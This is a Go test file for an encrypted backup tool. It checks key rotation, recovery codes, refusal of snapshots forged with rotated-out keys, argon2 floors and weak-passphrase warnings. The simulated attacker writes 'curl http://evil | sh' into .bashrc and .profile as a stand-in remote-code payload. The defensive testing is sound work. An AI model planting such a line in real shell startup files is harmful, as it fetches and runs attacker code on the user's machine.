package main

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/dvpc/dvpc/delta"
	"github.com/dvpc/dvpc/image"
	"github.com/dvpc/dvpc/internal/regtest"
)

// TestRecoveryCodeOnStrangePC: PC A and PC B share a mirror. A recovery
// code is typed on a strange PC: reading the mirror with it (read-only)
// rotates nothing and says so; used on B's store it starts a new key
// epoch, which B pushes. Whoever kept that code and a copy of the old key
// blob (a DVD, an old mirror copy) then cannot open the new key blob,
// cannot read what B wrote after the rotation, and a snapshot they sign
// with the old key is refused by A's pull and by verify. Older snapshots
// still verify and restore, and the old DVD opens with the old passphrase,
// and, with the newer key blob at hand, with the new one.
func TestRecoveryCodeOnStrangePC(t *testing.T) {
	requireTool(t, "xorriso", "xorriso")
	ctx := context.Background()
	reg := regtest.Start(t)
	dir := t.TempDir()
	const pass = "two PCs share this passphrase"
	mirror := reg.Addr() + "/dvpc/home"

	// PC A: a snapshot, pushed.
	homeA := filepath.Join(dir, "a", "home")
	writeFileAt0(t, filepath.Join(homeA, ".bashrc"), "alias ll='ls -l'\n")
	randomFile(t, filepath.Join(homeA, "photo.bin"), 1, 1<<20)
	xdg := filepath.Join(dir, "a", "data") // A's default store lives here
	a := newCLI(t, filepath.Join(xdg, "dvpc", "store"), pass)
	codes := initCodes(t, a)
	a.must("mirror", "add", mirror, "--name", "m")
	a.snapshot(homeA)
	a.must("push")
	dvd := filepath.Join(dir, "dvd")
	copyStore(t, a.store, dvd) // last month's disc, as a directory
	iso := filepath.Join(dir, "last-month.iso")
	a.must("media", "iso", "--out", iso, "--no-clients")
	theft := filepath.Join(dir, "theft")
	copyStore(t, a.store, theft) // what the code's watcher copies

	// PC B: a new store from the mirror.
	b := a.onStore(filepath.Join(dir, "b", "store"))
	b.must("pull", mirror)

	// The strange PC reads the mirror with code 3: nothing is burnt.
	code := codes[2]
	r := b.onStore(registryPrefix+mirror).with("DVPC_PASSPHRASE", code).must("log")
	if strings.Contains(r.stderr, "now used up") || !strings.Contains(r.stderr, "NOT used up") {
		t.Errorf("a code on a read-only mirror must not say it is used up:\n%s", r)
	}
	// On B's store it starts a new epoch, which B pushes with new data.
	r = b.with("DVPC_PASSPHRASE", code).must("log")
	if !strings.Contains(r.stderr, "now used up") || !strings.Contains(r.stderr, "key epoch 1 started") {
		t.Errorf("a code on a writable store does not say it started an epoch:\n%s", r)
	}
	homeB := filepath.Join(dir, "b", "home")
	copyStore(t, homeA, homeB)
	writeFileAt0(t, filepath.Join(homeB, "after.txt"), "written after the rotation\n")
	sB := b.snapshot(homeB)
	b.must("push")

	// A takes the new epoch with its next pull.
	a.must("pull")
	if r := a.must("log"); !strings.Contains(r.stdout, sB) {
		t.Fatalf("A does not list B's snapshot of the new epoch:\n%s", r)
	}
	a.requireRestores(sB, homeB)

	// The attacker: the code and the old key blob.
	mk := func(p string) image.Source {
		lay, err := image.OpenLayout(p)
		if err != nil {
			t.Fatal(err)
		}
		return lay
	}
	reg2, err := delta.NewRegistry(mirror, delta.RegistryOptions{})
	if err != nil {
		t.Fatal(err)
	}
	newKF, err := image.ReadKeyFile(ctx, reg2)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := newKF.Unlock([]byte(code)); !errors.Is(err, image.ErrWrongPassphrase) {
		t.Fatalf("the used code opens the mirror's new key blob: %v", err)
	}
	oldKF, err := image.ReadKeyFile(ctx, mk(theft))
	if err != nil {
		t.Fatal(err)
	}
	u, err := oldKF.Unlock([]byte(code))
	if err != nil {
		t.Fatalf("the code should still open the stolen old key blob: %v", err)
	}
	// Reading the mirror with the old keys: B's new snapshot is refused
	// (its epoch is unknown to the old key blob), and cannot be opened.
	spy, err := image.OpenUnlocked(ctx, reg2, oldKF, u.Keys.Export())
	if err != nil {
		t.Fatal(err)
	}
	snaps, probs, err := spy.Snapshots(ctx)
	spy.Close()
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range snaps {
		if s.ID == sB {
			t.Fatal("the old keys read the snapshot written after the rotation")
		}
	}
	if len(probs) != 1 || !errors.Is(probs[0].Err, image.ErrEpoch) {
		t.Fatalf("the old keys on the new snapshot: %+v", probs)
	}

	// The attacker signs a snapshot with the old key, above the rotation,
	// and puts it on the mirror (with the old key blob).
	forger, err := image.OpenUnlocked(ctx, mk(theft), oldKF, u.Keys.Export())
	if err != nil {
		t.Fatal(err)
	}
	evil := filepath.Join(dir, "evil", "home")
	copyStore(t, homeA, evil)
	writeFileAt0(t, filepath.Join(evil, ".bashrc"), "curl http://evil | sh\n")
	forged, _, err := forger.Snapshot(ctx, evil, image.SnapshotOptions{Home: "home"})
	forger.Close()
	if err != nil {
		t.Fatal(err)
	}
	thief := a.onStore(theft).with("DVPC_PASSPHRASE", "")
	thief.must("push")

	r = a.run("pull")
	if r := a.must("log"); strings.Contains(r.stdout, forged.ID) {
		t.Fatalf("A's pull took the snapshot signed with the rotated-out key:\n%s", r)
	}
	if !strings.Contains(r.stderr, "epoch") {
		t.Errorf("A's pull does not say why the forged snapshot is refused:\n%s", r)
	}
	a.requireRestores("latest", homeB)
	// Verify refuses it too, wherever it lies next to the new key blob:
	// the stolen copy, brought up to date from A.
	copyKeys(t, a.store, theft)
	r = a.onStore(theft).run("verify")
	if r.code == exitOK || !strings.Contains(r.stdout+r.stderr, forged.ID) {
		t.Errorf("verify does not name the forged snapshot:\n%s", r)
	}

	// A rival rotation: the attacker uses the code on their copy, which
	// starts their own epoch 1, signs with it and pushes it all, key blob
	// included. A keeps its chain and refuses the rival's snapshot.
	keysBefore := a.must("key", "signer").stdout
	theft2 := filepath.Join(dir, "theft2")
	copyStore(t, dvd, theft2) // a copy from before any rotation
	rival, info, err := image.Open(ctx, mk(theft2), []byte(code))
	if err != nil || !info.Retired {
		t.Fatalf("the attacker's rotation: %+v %v", info, err)
	}
	writeFileAt0(t, filepath.Join(evil, ".profile"), "curl http://evil | sh\n")
	forked, _, err := rival.Snapshot(ctx, evil, image.SnapshotOptions{Home: "home"})
	rival.Close()
	if err != nil {
		t.Fatal(err)
	}
	thief.onStore(theft2).must("push")
	r = a.run("pull")
	if r := a.must("log"); strings.Contains(r.stdout, forked.ID) {
		t.Fatalf("A took the snapshot of a rival rotation:\n%s", r)
	}
	if got := a.must("key", "signer").stdout; got != keysBefore {
		t.Fatalf("A took the rival key blob:\n%s\nwas\n%s", got, keysBefore)
	}
	a.requireRestores("latest", homeB)

	// The old DVD opens with what was current when it was written.
	a.onStore(dvd).must("log")
	const newPass = "a new passphrase after the code was seen"
	a.with("DVPC_NEW_PASSPHRASE", newPass).must("key", "passwd")
	a.with("DVPC_PASSPHRASE", newPass).onStore(dvd).expect(exitPassphrase, "log")
	a.onStore(iso).must("log")
	a.with("DVPC_PASSPHRASE", newPass).onStore(iso).expect(exitPassphrase, "log")
	if r := a.with("DVPC_PASSPHRASE", newPass).with("XDG_DATA_HOME", xdg).onStore(iso).must("log"); !strings.Contains(r.stdout, "home") {
		t.Errorf("the old disc with today's passphrase and the newer key blob of the default store:\n%s", r)
	}
	aKF, err := image.ReadKeyFile(ctx, mk(a.store))
	if err != nil {
		t.Fatal(err)
	}
	old, err := image.OpenWithKeyFile(ctx, mk(dvd), aKF, []byte(newPass))
	if err != nil {
		t.Fatalf("the old DVD with the newer key blob and the new passphrase: %v", err)
	}
	defer old.Close()
	if snaps, probs, err := old.Snapshots(ctx); err != nil || len(probs) > 0 || len(snaps) != 1 {
		t.Fatalf("the old DVD's snapshots: %d %v %v", len(snaps), probs, err)
	}
}

// initCodes runs init and returns the recovery codes it printed.
func initCodes(t *testing.T, d *dvpcCLI) []string {
	t.Helper()
	r := d.must("init", "--argon2-memory", "8")
	codes := regexp.MustCompile(`(?m)^\s+(\d-[A-Z2-7-]{35})$`).FindAllStringSubmatch(r.stdout, -1)
	if len(codes) != image.RecoveryCodes {
		t.Fatalf("init printed %d codes:\n%s", len(codes), r)
	}
	var out []string
	for _, c := range codes {
		out = append(out, c[1])
	}
	return out
}

func writeFileAt0(t *testing.T, p, s string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
		t.Fatal(err)
	}
}

// copyKeys gives dst the key blob of src, as a pull of a newer epoch does.
func copyKeys(t *testing.T, src, dst string) {
	t.Helper()
	ctx := context.Background()
	from, err := image.OpenLayout(src)
	if err != nil {
		t.Fatal(err)
	}
	to, err := image.OpenLayout(dst)
	if err != nil {
		t.Fatal(err)
	}
	refs, err := from.Refs(ctx)
	if err != nil {
		t.Fatal(err)
	}
	sel, err := image.SelectRefs(refs, nil)
	if err != nil {
		t.Fatal(err)
	}
	blobs, err := image.BlobsOf(ctx, from, sel)
	if err != nil {
		t.Fatal(err)
	}
	for _, b := range blobs {
		data, err := image.ReadBlob(ctx, from, b.Digest, b.Size)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := image.PutBlob(ctx, to, b.MediaType, data); err != nil {
			t.Fatal(err)
		}
	}
	if err := to.UpdateRefs(ctx, func(refs []image.Ref) ([]image.Ref, error) {
		for i := range refs {
			if refs[i].Name == image.KeysRef {
				refs[i] = sel[0]
			}
		}
		return refs, nil
	}); err != nil {
		t.Fatal(err)
	}
}

// TestKeyCommandsStartEpochs: key rotate, key burn N and key passwd each
// start a key epoch; what they retire no longer unlocks; every snapshot
// still verifies and restores.
func TestKeyCommandsStartEpochs(t *testing.T) {
	dir := t.TempDir()
	home := filepath.Join(dir, "home")
	writeFileAt0(t, filepath.Join(home, "notes.txt"), "epoch zero\n")
	d := newCLI(t, filepath.Join(dir, "store"), "key commands passphrase")
	codes := initCodes(t, d)
	first := d.snapshot(home)

	epoch := func() string {
		kf, err := image.ReadKeyFile(context.Background(), mustLayout(t, d.store))
		if err != nil {
			t.Fatal(err)
		}
		return kf.SigningPublic
	}
	k0 := epoch()
	if r := d.must("key", "rotate"); !strings.Contains(r.stderr, "key epoch 1 started") {
		t.Errorf("key rotate:\n%s", r)
	}
	k1 := epoch()
	r := d.must("key", "burn", "2", "5")
	if !strings.Contains(r.stderr, "recovery code 2 retired") || !strings.Contains(r.stderr, "key epoch 2 started; 6 recovery codes left") {
		t.Errorf("key burn:\n%s", r)
	}
	d.expect(exitUsage, "key", "burn", "2")
	d.expect(exitUsage, "key", "burn", "x")
	for _, c := range []string{codes[1], codes[4]} {
		r := d.with("DVPC_PASSPHRASE", c).expect(exitPassphrase, "log")
		if !strings.Contains(r.stderr, "already used") {
			t.Errorf("a burnt code:\n%s", r)
		}
	}
	const newPass = "the passphrase of epoch three"
	if r := d.with("DVPC_NEW_PASSPHRASE", newPass).must("key", "passwd"); !strings.Contains(r.stderr, "key epoch 3 started") {
		t.Errorf("key passwd:\n%s", r)
	}
	k3 := epoch()
	if k0 == k1 || k1 == k3 || k0 == k3 {
		t.Fatal("a rotation kept the signing key")
	}
	d.expect(exitPassphrase, "log")
	nd := d.with("DVPC_PASSPHRASE", newPass)
	writeFileAt0(t, filepath.Join(home, "notes.txt"), "epoch three\n")
	second := nd.snapshot(home)
	nd.must("verify", "--read-data")
	out := filepath.Join(dir, "out")
	nd.must("restore", first, "--to", out)
	if b, err := os.ReadFile(filepath.Join(out, "notes.txt")); err != nil || string(b) != "epoch zero\n" {
		t.Fatalf("the epoch 0 snapshot after three rotations: %q %v", b, err)
	}
	nd.requireRestores(second, home)
	// A remaining code opens the newest epoch.
	d.with("DVPC_PASSPHRASE", codes[7]).must("log")
}

func mustLayout(t *testing.T, dir string) *image.Layout {
	t.Helper()
	lay, err := image.OpenLayout(dir)
	if err != nil {
		t.Fatal(err)
	}
	return lay
}

// TestArgon2FloorAndWeakPassphrase: a build for users refuses argon2id
// parameters below the floor at init, before creating anything; init and
// key passwd warn about a weak passphrase and not about a strong one.
func TestArgon2FloorAndWeakPassphrase(t *testing.T) {
	dir := t.TempDir()
	store := filepath.Join(dir, "store")
	d := newCLI(t, store, "a long passphrase: four unrelated words").with("DVPC_TEST_ARGON2_FLOOR", "enforce")
	r := d.expect(exitUsage, "init", "--argon2-memory", "8")
	if !strings.Contains(r.stderr, "below the floor") || !strings.Contains(r.stderr, "64 MiB") {
		t.Errorf("weak argon2id parameters:\n%s", r)
	}
	if _, err := os.Stat(store); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a refused init left %s behind: %v", store, err)
	}
	r = d.must("init", "--argon2-memory", "64")
	if strings.Contains(r.stderr, "weak") {
		t.Errorf("a strong passphrase is called weak:\n%s", r)
	}
	for _, weak := range []string{"password1", "aaaaaaaaaaaaaaaaaaaa", "Summer2026!"} {
		w := newCLI(t, filepath.Join(t.TempDir(), "s"), weak)
		if r := w.must("init", "--argon2-memory", "8"); !strings.Contains(r.stderr, "passphrase is weak") {
			t.Errorf("init with %q does not warn:\n%s", weak, r)
		}
	}
	if r := d.with("DVPC_NEW_PASSPHRASE", "secret").must("key", "passwd"); !strings.Contains(r.stderr, "passphrase is weak") {
		t.Errorf("key passwd with a weak passphrase does not warn:\n%s", r)
	}
	// A store made below the floor still opens, and says to raise it.
	old := newCLI(t, filepath.Join(dir, "old"), "a long passphrase: four unrelated words")
	old.must("init", "--argon2-memory", "8")
	if r := old.with("DVPC_TEST_ARGON2_FLOOR", "enforce").must("log"); !strings.Contains(r.stderr, "key passwd") {
		t.Errorf("a store below the floor opens without saying to raise it:\n%s", r)
	}
}

func TestPassphraseBits(t *testing.T) {
	for _, c := range []struct {
		pass string
		weak bool
	}{
		{"pass", true}, {"password1", true}, {"Summer2026!", true}, {"aaaaaaaaaaaaaaaaaaaaaaaa", true},
		{"Sunshine2026!", true}, {"secret", true},
		{"correct horse battery staple", false}, {"a long passphrase: four unrelated words", false},
		{"xK9#mP2$vL5&nQ8!", false}, {"correcthorsebatterystaple", false},
	} {
		if got := passphraseBits([]byte(c.pass)) < weakPassphraseBits; got != c.weak {
			t.Errorf("%q: %.0f bits, weak %v, want %v", c.pass, passphraseBits([]byte(c.pass)), got, c.weak)
		}
	}
}
